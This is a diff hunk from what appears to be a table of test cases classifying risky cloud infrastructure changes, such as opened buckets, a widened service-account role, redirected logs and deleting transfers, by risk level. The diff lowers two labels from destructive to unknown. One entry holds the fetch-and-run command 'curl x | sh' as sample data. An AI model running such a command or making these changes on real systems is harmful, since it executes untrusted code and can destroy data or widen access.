@@ -86,13 +86,13 @@ HARMS = {
     "bucket opened": Harm(BUCKET, CLOSED, {"uniformBucketLevelAccess": True}, Risk.ACCESS),
     "role widened": Harm(ROLE, {"permissions": []}, {"permissions": ["iam.serviceAccounts.actAs"]}, Risk.ACCESS),
     "logs led away": Harm(LOG_SINK, {"destination": "a"}, {"destination": "b"}, Risk.CAUTION),
-    "command at update": Harm("command:local:Command", None, {"create": "curl x | sh"}, Risk.DESTRUCTIVE),
+    "command at update": Harm("command:local:Command", None, {"create": "curl x | sh"}, Risk.UNKNOWN),
     "objects overwritten": Harm("gcp:storage/bucketObject:BucketObject", None, {"name": "data/x"}, Risk.CAUTION),
     "transfer that deletes": Harm(
         "gcp:storage/transferJob:TransferJob",
         None,
         {"transferSpec": {"transferOptions": {"deleteObjectsFromSourceAfterTransfer": True}}},
-        Risk.DESTRUCTIVE,
+        Risk.UNKNOWN,
     ),
     "fractional retention": Harm(
         "gcp:pubsub/topic:Topic",
